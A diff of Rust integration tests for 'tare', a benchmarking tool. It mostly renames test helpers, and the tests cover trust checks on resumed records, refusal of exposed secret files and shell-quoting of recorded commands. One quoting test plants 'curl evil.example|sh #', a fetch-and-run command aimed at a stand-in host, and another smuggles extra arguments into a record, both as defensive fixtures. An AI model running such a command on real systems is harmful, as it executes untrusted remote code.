@@ -28,7 +28,7 @@ fn broken_off(program: &Program) -> std::path::PathBuf {
     child.kill().unwrap();
     child.wait().unwrap();
     fs::remove_file(program.path("mine.toml")).unwrap();
-    assert_eq!(program.run(&["clean"]).code, Some(0));
+    assert_eq!(program.run_tare(&["clean"]).code, Some(0));
     fs::remove_file(&proof).unwrap();
     proof
 }
@@ -51,8 +51,8 @@ fn a_record_from_elsewhere_is_resumed_only_when_it_is_trusted() {
     let resume = ["run", "--resume", "s.tare", "--budget", "8s"];
     let elsewhere = |more: &[&str]| {
         let arguments = [&resume[..], more].concat();
-        let mut command = program.command(&arguments);
-        Said::of(command.env("XDG_STATE_HOME", program.path("state/other")).output().unwrap())
+        let mut command = program.tare_command(&arguments);
+        Said::from_output(command.env("XDG_STATE_HOME", program.path("state/other")).output().unwrap())
     };
     let said = elsewhere(&[]);
     assert_eq!(said.code, Some(2), "{said:?}");
@@ -66,7 +66,7 @@ fn a_record_from_elsewhere_is_resumed_only_when_it_is_trusted() {
             *command = command.replace("touch", "touch\",\"--");
         }
     });
-    let said = program.run(&["run", "--resume", "changed.tare", "--budget", "8s"]);
+    let said = program.run_tare(&["run", "--resume", "changed.tare", "--budget", "8s"]);
     assert_eq!(said.code, Some(2), "{said:?}");
     assert!(!proof.exists(), "{said:?}");
     let said = elsewhere(&["--trust"]);
@@ -84,7 +84,7 @@ fn a_session_is_resumed_on_its_own_machine_alone_and_a_restart_is_a_warning() {
                 set(header.identity.as_mut().unwrap());
             }
         });
-        program.run(&["run", "--resume", name, "--budget", "8s"])
+        program.run_tare(&["run", "--resume", name, "--budget", "8s"])
     };
     let said = with("elsewhere.tare", |identity| identity.machine = "0".repeat(32));
     assert_eq!(said.code, Some(2), "{said:?}");
@@ -102,7 +102,7 @@ fn a_session_is_resumed_on_its_own_machine_alone_and_a_restart_is_a_warning() {
 fn what_began_here_is_resumed_without_a_question() {
     let program = Program::new();
     let proof = broken_off(&program);
-    let said = program.run(&["run", "--resume", "s.tare", "--budget", "8s"]);
+    let said = program.run_tare(&["run", "--resume", "s.tare", "--budget", "8s"]);
     assert_eq!(said.code, Some(0), "{said:?}");
     assert!(proof.exists());
 }
@@ -111,7 +111,7 @@ fn what_began_here_is_resumed_without_a_question() {
 fn words_of_a_record_are_quoted_where_they_are_shown_to_be_copied() {
     let program = Program::new();
     let only = ["--in", "native", "--only", "sys.getppid", "--rounds", "2", "--record", "s.tare"];
-    assert_eq!(program.run(&[&["run"][..], &only].concat()).code, Some(0));
+    assert_eq!(program.run_tare(&[&["run"][..], &only].concat()).code, Some(0));
     change(&program.path("s.tare"), &program.path("changed.tare"), |entry| {
         if let Entry::Record { header, .. } = entry {
             header.command = ["run", ";", "curl evil.example|sh #", "it's"].map(str::to_owned).to_vec();
@@ -119,15 +119,15 @@ fn words_of_a_record_are_quoted_where_they_are_shown_to_be_copied() {
         }
     });
     let quoted = r"tare run ';' 'curl evil.example|sh #' 'it'\''s'";
-    let said = program.run(&["report", "changed.tare"]);
+    let said = program.run_tare(&["report", "changed.tare"]);
     // A long line goes on between words, as a shell takes it.
     let unfolded = said.out.replace("\\\n", "").split_whitespace().collect::<Vec<_>>().join(" ");
     assert!(unfolded.contains(quoted), "{}", said.out);
-    let said = program.run(&["run", "--resume", "changed.tare", "--trust"]);
+    let said = program.run_tare(&["run", "--resume", "changed.tare", "--trust"]);
     assert!(said.err.contains(quoted), "{}", said.err);
     // Words are kept as they were typed.
-    let said = program.run(&["report", "--json", "s.tare"]);
-    let words = said.json()["session"]["command"].clone();
+    let said = program.run_tare(&["report", "--json", "s.tare"]);
+    let words = said.parse_json()["session"]["command"].clone();
     assert!(words.as_array().unwrap().iter().any(|word| word == "sys.getppid"), "{words}");
 }
 
@@ -135,9 +135,9 @@ fn words_of_a_record_are_quoted_where_they_are_shown_to_be_copied() {
 fn a_pattern_is_kept_raw_and_shown_quoted() {
     let program = Program::new();
     let only = ["--in", "native", "--only", "sys.getpp*", "--rounds", "2", "--record", "s.tare"];
-    let said = program.run(&[&["run"][..], &only].concat());
+    let said = program.run_tare(&[&["run"][..], &only].concat());
     assert!(said.out.contains("--only 'sys.getpp*'"), "{}", said.out);
-    let recording = tare_record::read(&program.path("s.tare")).unwrap();
+    let recording = tare_record::read_session(&program.path("s.tare")).unwrap();
     assert!(recording.session.header.command.contains(&"sys.getpp*".to_owned()));
 }
 
@@ -160,7 +160,7 @@ fn a_journal_that_cannot_be_written_is_the_hosts_own_failure() {
         let mut command = Command::new(env!("CARGO_BIN_EXE_tare"));
         command.args(["run", "--only", "null", "--rounds", "4", "--in", "native,container", "--scratch"]);
         command.arg(scratch).env("XDG_STATE_HOME", &state).current_dir(program.path(""));
-        said.push(Said::of(command.output().unwrap()));
+        said.push(Said::from_output(command.output().unwrap()));
         unmount(&state, UnmountFlags::DETACH).unwrap();
     }
     for said in said {
@@ -174,11 +174,11 @@ fn a_journal_that_cannot_be_written_is_the_hosts_own_failure() {
 fn descriptors_that_run_out_are_the_hosts_own_failure() {
     let program = Program::new();
     let mut command =
-        program.command(&["run", "--in", "native,container", "--only", "null", "--rounds", "2"]);
+        program.tare_command(&["run", "--in", "native,container", "--only", "null", "--rounds", "2"]);
     let few = Rlimit { current: Some(11), maximum: Some(11) };
     // SAFETY: setrlimit is one system call, which allocates nothing.
     unsafe { command.pre_exec(move || Ok(setrlimit(Resource::Nofile, few)?)) };
-    let said = Said::of(command.output().unwrap());
+    let said = Said::from_output(command.output().unwrap());
     assert_eq!(said.code, Some(1), "{said:?}");
     assert!(said.err.contains("Too many open files"), "{said:?}");
     assert!(!said.err.contains("cannot be entered"), "{said:?}");
@@ -191,9 +191,9 @@ fn a_home_that_is_not_there_is_not_made() {
     let small = ["run", "--in", "native", "--only", "null", "--rounds", "2"];
     // What a session makes is written down in the scratch folder then.
     for (arguments, code) in [(&small[..], Some(0)), (&["clean"], Some(4)), (&["check"], None)] {
-        let mut command = program.command(arguments);
+        let mut command = program.tare_command(arguments);
         command.env_remove("XDG_STATE_HOME").env_remove("XDG_CACHE_HOME").env("HOME", &home);
-        let said = Said::of(command.output().unwrap());
+        let said = Said::from_output(command.output().unwrap());
         assert!(!home.exists(), "{said:?}");
         assert!(code.is_none() || said.code == code, "{said:?}");
     }
@@ -209,8 +209,8 @@ fn a_home_that_cannot_be_written_is_done_without() {
     fs::create_dir(&home).unwrap();
     mount("none", &home, "tmpfs", MountFlags::RDONLY, None).unwrap();
     let mut command =
-        program.command(&["run", "--in", "native,container", "--only", "null", "--rounds", "2"]);
-    let said = Said::of(command.env_remove("XDG_STATE_HOME").env("HOME", &home).output().unwrap());
+        program.tare_command(&["run", "--in", "native,container", "--only", "null", "--rounds", "2"]);
+    let said = Said::from_output(command.env_remove("XDG_STATE_HOME").env("HOME", &home).output().unwrap());
     unmount(&home, UnmountFlags::DETACH).unwrap();
     assert_eq!(said.code, Some(0), "{said:?}");
     let kept = fs::read_dir(program.path("tare-state-0")).unwrap();
@@ -225,7 +225,7 @@ fn a_secret_file_that_others_may_read_or_own_is_refused() {
     fs::write(&file, "ab".repeat(32)).unwrap();
     let peer = format!("tare://127.0.0.1:1/?secret-file={}", file.display());
     let refused = |why: &str| {
-        let said = program.run(&["check", "--peer", &peer]);
+        let said = program.run_tare(&["check", "--peer", &peer]);
         assert_eq!(said.code, Some(4), "{why}: {said:?}");
         assert!(said.err.contains(why), "{said:?}");
     };
@@ -238,8 +238,8 @@ fn a_secret_file_that_others_may_read_or_own_is_refused() {
     std::os::unix::fs::chown(&file, Some(65534), Some(65534)).unwrap();
     refused("another user owns it");
     let mut serve =
-        program.command(&["serve", "--listen", "127.0.0.1:0", "--expires", "1s", "--secret-file"]);
-    let said = Said::of(serve.arg(&file).output().unwrap());
+        program.tare_command(&["serve", "--listen", "127.0.0.1:0", "--expires", "1s", "--secret-file"]);
+    let said = Said::from_output(serve.arg(&file).output().unwrap());
     assert_eq!(said.code, Some(4), "{said:?}");
     assert!(said.err.contains("another user owns it"), "{said:?}");
 }
@@ -248,7 +248,7 @@ fn a_secret_file_that_others_may_read_or_own_is_refused() {
 fn the_hint_for_a_netserver_names_no_secret() {
     let program = Program::new();
     let only = ["--in", "native", "--only", "null", "--rounds", "2", "--record", "s.tare"];
-    assert_eq!(program.run(&[&["run"][..], &only].concat()).code, Some(0));
+    assert_eq!(program.run_tare(&[&["run"][..], &only].concat()).code, Some(0));
     for (peer, hint) in [
         ("netperf://h:12865", "--peer netperf://h:12865\n"),
         ("tare://h:7", "--peer 'tare://h:7/#SECRET'\n"),
@@ -260,7 +260,7 @@ fn the_hint_for_a_netserver_names_no_secret() {
                 plan.cases[0].case.peer = Some(peer.into());
             }
         });
-        let said = program.run(&["run", "--resume", "changed.tare", "--trust"]);
+        let said = program.run_tare(&["run", "--resume", "changed.tare", "--trust"]);
         assert_eq!(said.code, Some(2), "{said:?}");
         assert!(said.err.contains(hint), "{said:?}");
     }
@@ -275,10 +275,10 @@ fn a_hanging_start_does_not_outlast_the_budget() {
     fs::set_permissions(&runtime, Permissions::from_mode(0o755)).unwrap();
     let targets = format!("native,oci:{}", runtime.display());
     let mut command = Command::new("timeout");
-    let run = program.command(&["run", "--only", "sys.getppid", "--budget", "10s", "--in", &targets]);
+    let run = program.tare_command(&["run", "--only", "sys.getppid", "--budget", "10s", "--in", &targets]);
     command.arg("40").arg(run.get_program()).args(run.get_args()).current_dir(program.path(""));
     command.env("XDG_STATE_HOME", program.path("state"));
-    let said = Said::of(command.output().unwrap());
+    let said = Said::from_output(command.output().unwrap());
     // 124: it had to be ended, so that its starts took more than four times the budget. 3: its only subject is out.
     assert_eq!(said.code, Some(3), "{said:?}");
 }
